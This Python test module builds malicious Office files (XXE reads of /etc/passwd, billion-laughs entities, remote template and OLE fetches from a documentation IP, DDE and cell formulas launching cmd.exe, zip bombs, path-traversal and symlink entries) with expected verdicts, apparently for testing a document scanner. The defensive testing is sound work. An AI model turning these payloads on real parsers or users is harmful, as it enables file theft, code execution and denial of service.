"""Word and Excel files that call out, carry programs, or are no Office files."""

import io
import struct
import zipfile

from tests.documents.corpus.verdicts import CAREFUL, NO, OLE, TAKEN, YES, W
from tests.documents.hostile import RELATIONS, office
from tests.documents.samples import pdf


def zipped(*entries, method=zipfile.ZIP_DEFLATED, change=None):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as archive:
        for name, data in entries:
            info = zipfile.ZipInfo(name)
            info.compress_type = method
            if change:
                change(info)
            archive.writestr(info, data)
    return out.getvalue()


def relations(target, kind="attachedTemplate", mode='TargetMode="External"', quote='"'):
    return (
        f"<Relationships xmlns='{RELATIONS}'><Relationship Id='r1' Type="
        f"'http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}' {mode} "
        f"Target={quote}{target}{quote}/></Relationships>"
    )


def paragraph(words):
    return f'<?xml version="1.0"?><w:document xmlns:w="{W}"><w:body><w:p>{words}</w:p></w:body></w:document>'


def field(code):
    return paragraph(f"<w:r><w:instrText>{code}</w:instrText></w:r>")


def linked_macro_sheet():
    return office(
        "xl/workbook.xml", body='<workbook><sheets><sheet name="a" r:id="r1"/></sheets></workbook>',
        more=[("xl/macrosheets/sheet1.xml", "<xm:macrosheet/>")],
    )  # fmt: skip


def overlapping():
    """Two directory entries that name the same bytes."""
    made = bytearray(office(more=[("word/a.xml", b"x" * 400), ("word/b.xml", b"x" * 400)]))
    places = [i for i in range(len(made)) if made[i : i + 4] == b"PK\x01\x02"]
    made[places[-1] + 42 : places[-1] + 46] = made[places[-2] + 42 : places[-2] + 46]
    return bytes(made)


def symlinked():
    def change(info):
        if info.filename == "word/link":
            info.external_attr = 0o120777 << 16

    return zipped(("[Content_Types].xml", "<Types/>"), ("word/document.xml", paragraph("")), ("word/link", "/etc/passwd"), change=change)  # fmt: skip


def matryoshka(depth=6):
    inner = b"0" * 2**20
    for i in range(depth):
        inner = zipped((f"{i}.zip", inner), ("a", b"0" * 2**18))
    return inner


LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "lol">'
    + "".join(f'<!ENTITY {chr(98 + i)} "{f"&{chr(97 + i)};" * 10}">' for i in range(9))
    + "]><w:document>&j;</w:document>"
)
XXE = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document>&x;</w:document>'
DTD = '<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://198.51.100.7/x.dtd"><w:document/>'
SHEET = "xl/workbook.xml"

OFFICE = [
    ("laughs.docx", lambda: office(body=LAUGHS), NO),
    ("xxe.docx", lambda: office(body=XXE), NO),
    ("dtd.docx", lambda: office(body=DTD), NO),
    ("xxe-utf16.docx", lambda: office(body=XXE.replace("?>", ' encoding="utf-16"?>', 1).encode("utf-16")), NO),
    ("xxe-utf7.docx", lambda: office(body=b'<?xml version="1.0" encoding="UTF-7"?>+ADwAIQ-DOCTYPE r+AD4-<w:document/>'), CAREFUL),
    ("xxe-ebcdic.docx", lambda: office(body='<?xml version="1.0" encoding="cp037"?><!DOCTYPE r><w:document/>'.encode("cp037")), CAREFUL),
    ("xxe.xlsx", lambda: office(SHEET, body=XXE), NO),
    ("xxe-other-part.docx", lambda: office(more=[("customXml/item1.xml", XXE)]), NO),
    ("xxe-vml.docx", lambda: office(more=[("word/drawing.vml", XXE)]), CAREFUL),
    ("svg-inside.docx", lambda: office(more=[("word/media/image1.svg", '<svg onload="alert(1)"/>')]), TAKEN | CAREFUL),
    ("template.docx", lambda: office(more=[("word/_rels/settings.xml.rels", relations("http://198.51.100.7/t.dotm"))]), NO),
    ("template-quote.docx", lambda: office(more=[("word/_rels/settings.xml.rels", relations("http://198.51.100.7/t.dotm", mode="TargetMode='External'"))]), NO),
    ("template-space.docx", lambda: office(more=[("word/_rels/settings.xml.rels", relations("http://198.51.100.7/t.dotm", mode="TargetMode = 'External'"))]), NO),
    ("image-outside.docx", lambda: office(more=[("word/_rels/document.xml.rels", relations("\\\\198.51.100.7\\a.png", "image"))]), NO),
    ("ole-outside.docx", lambda: office(more=[("word/_rels/document.xml.rels", relations("http://198.51.100.7/a.hta", "oleObject"))]), NO),
    ("frame-hyperlink.docx", lambda: office(more=[("word/_rels/document.xml.rels", relations("http://198.51.100.7/hyperlink", "frame"))]), NO),
    ("mhtml.docx", lambda: office(more=[("word/_rels/document.xml.rels", relations("mhtml:http://198.51.100.7/a!x-usc:http://198.51.100.7/a", "oleObject"))]), NO),
    ("script-link.docx", lambda: office(more=[("word/_rels/document.xml.rels", relations("javascript:alert(1)", "hyperlink"))]), CAREFUL),
    ("good-link.docx", lambda: office(more=[("word/_rels/document.xml.rels", relations("https://provider.example/", "hyperlink"))]), YES),
    ("ole-inside.docx", lambda: office(more=[("word/embeddings/oleObject1.bin", OLE + b"\0" * 600)]), CAREFUL),
    ("exe-inside.docx", lambda: office(more=[("word/embeddings/tool.exe", b"MZ\x90\0" * 90)]), CAREFUL),
    ("activex.docx", lambda: office(more=[("word/activeX/activeX1.xml", "<ax:ocx/>")]), CAREFUL),
    ("altchunk.docx", lambda: office(more=[("word/afchunk.html", "<script>1</script>")]), CAREFUL),
    ("dde.docx", lambda: office(body=field('DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"')), CAREFUL),
    ("includepicture.docx", lambda: office(body=field('INCLUDEPICTURE "http://198.51.100.7/a.png"')), CAREFUL),
    ("dde.xlsx", lambda: office(SHEET, more=[("xl/externalLinks/externalLink1.xml", '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>')]), CAREFUL),
    ("dde-cell.xlsx", lambda: office(SHEET, more=[("xl/worksheets/sheet1.xml", "<c><f>cmd|'/c calc'!A0</f></c>")]), CAREFUL),
    ("webservice.xlsx", lambda: office(SHEET, more=[("xl/worksheets/sheet1.xml", '<c><f>WEBSERVICE("http://198.51.100.7")</f></c>')]), CAREFUL),
    ("xlm.xlsx", linked_macro_sheet, CAREFUL),
    ("connection.xlsx", lambda: office(SHEET, more=[("xl/connections.xml", '<connection odcFile="http://198.51.100.7/a"/>')]), CAREFUL),
    ("macro.docx", lambda: office(more=[("word/vbaProject.bin", OLE)]), NO),
    ("macro-renamed.docx", lambda: office(more=[("word/other.bin", OLE + b"\0_VBA_PROJECT" * 9)], types='<Types><Override PartName="/word/other.bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>'), NO),
    ("macro-type.docx", lambda: office(types='<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'), NO),
    ("real.docm", lambda: office(more=[("word/vbaProject.bin", OLE)]), NO),
    ("real.xlsm", lambda: office(SHEET, more=[("xl/vbaProject.bin", OLE)]), NO),
    ("old.doc", lambda: OLE + b"\0" * 1000, NO),
    ("old.xls", lambda: OLE + b"\0" * 1000, NO),
    ("rtf.doc", lambda: b"{\\rtf1{\\object\\objautlink}}", NO),
    ("rtf.docx", lambda: b"{\\rtf1{\\object\\objautlink}}", NO),
    ("locked.docx", lambda: OLE + "EncryptedPackage".encode("utf-16-le") + b"\0" * 600, CAREFUL),
    ("locked-zip.docx", lambda: encrypted_zip(), CAREFUL),
    ("bomb.docx", lambda: office(more=[("word/a.xml", b"0" * (70 * 2**20))]), NO),
    ("bomb-media.docx", lambda: office(more=[("word/media/a.png", b"0" * (60 * 2**20))]), NO),
    ("bomb-small-steps.docx", lambda: office(more=[(f"word/a{i}.xml", b"0" * (2**20 - 1)) for i in range(70)]), NO),
    ("entries.docx", lambda: zipped(*[(f"word/{i}.xml", b"") for i in range(9000)]), NO),
    ("overlap.docx", overlapping, NO),
    ("matryoshka.docx", lambda: office(more=[("word/embeddings/a.zip", matryoshka())]), CAREFUL),
    ("climb.docx", lambda: office(more=[("../../../etc/cron.d/x", b"*")]), NO),
    ("climb-win.docx", lambda: office(more=[("..\\..\\x", b"*")]), NO),
    ("absolute.docx", lambda: office(more=[("/etc/passwd", b"*")]), NO),
    ("symlink.docx", symlinked, NO),
    ("twice.docx", lambda: office(more=[("word/document.xml", paragraph("other"))]), NO),
    ("case-twice.docx", lambda: office(more=[("Word/Document.xml", paragraph("other"))]), CAREFUL),
    ("lies-size.docx", lambda: lies(), NO),
    ("deep.docx", lambda: office(body="<a>" * 200_000 + "</a>" * 200_000), CAREFUL),
    ("attributes.docx", lambda: office(body="<a " + " ".join(f'a{i}="1"' for i in range(200_000)) + "/>"), TAKEN | NO),
    ("not-xml.docx", lambda: office(body="this is no markup"), CAREFUL),
    ("half.docx", lambda: office(more=[("word/a.xml", b"abc" * 9999)])[:300], NO),
    ("zip.docx", lambda: zipped(("a.txt", b"hello")), NO),
    ("jar.docx", lambda: zipped(("META-INF/MANIFEST.MF", b"a"), ("A.class", b"\xca\xfe\xba\xbe")), NO),
    ("odt.docx", lambda: zipped(("mimetype", b"application/vnd.oasis.opendocument.text"), ("content.xml", b"<a/>")), NO),
    ("docx.xlsx", lambda: office(), NO),
    ("exe-before.docx", lambda: b"MZ\x90\0" + office(), NO),
    ("pdf-after.docx", lambda: office() + pdf(), CAREFUL),
    ("lzma.docx", lambda: zipped(("[Content_Types].xml", "<Types/>"), ("word/document.xml", paragraph("")), method=zipfile.ZIP_LZMA), CAREFUL),
]  # fmt: skip


def encrypted_zip():
    made = bytearray(office())
    for i in range(len(made) - 4):
        if made[i : i + 4] == b"PK\x03\x04":
            made[i + 6] |= 1
        if made[i : i + 4] == b"PK\x01\x02":
            made[i + 8] |= 1
    return bytes(made)


def lies():
    """The directory says ten bytes; the stream swells to twenty megabytes."""
    made = bytearray(office(more=[("word/a.xml", b"0" * (20 * 2**20))]))
    place = made.rfind(b"PK\x01\x02")
    made[place + 24 : place + 28] = struct.pack("<I", 10)
    return bytes(made)
